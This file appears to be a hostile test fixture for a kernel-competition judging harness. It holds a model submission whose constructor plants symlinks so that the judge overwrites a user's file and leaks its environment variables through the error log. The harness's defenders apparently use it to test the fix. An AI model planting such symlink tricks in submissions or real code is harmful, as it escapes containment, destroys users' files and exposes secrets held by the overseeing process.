# A winner that makes the judging process read and write for it through links in its own folder,
# which its contained process may write and the judging process then opens on the machine's own
# filesystem: `user_weights.pt`, where the judging process copies the user's weights after `init`,
# made a link to a file of the user's (test_steps_hostile.py plants one, named after the test's
# tag, in the machine's /tmp); its log made a link to `/proc/self/environ`, which the judging
# process resolves as itself; then it dies at its first run of steps, so that the judging process
# reads the log's last line for its error. Before: the user's file was overwritten with the
# weights, and the error held the first 300 characters of the judging process's environment.
import os

from torch import nn

TAG = os.environ.get("KERNELSWARM_TEST_TAG", "none")


class _Die(nn.Module):
    def forward(self, x):
        os._exit(1)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.region = nn.Sequential(nn.Linear(128, 512), nn.GELU(), nn.Linear(512, 128))
        self.die = _Die()
        for name, target in (("user_weights.pt", f"/tmp/ks-adv13-victim-{TAG}"), ("log.txt", "/proc/self/environ")):
            try:
                os.unlink(name)
            except OSError:
                pass
            os.symlink(target, name)

    def forward(self, x):
        return self.die(self.region(x))
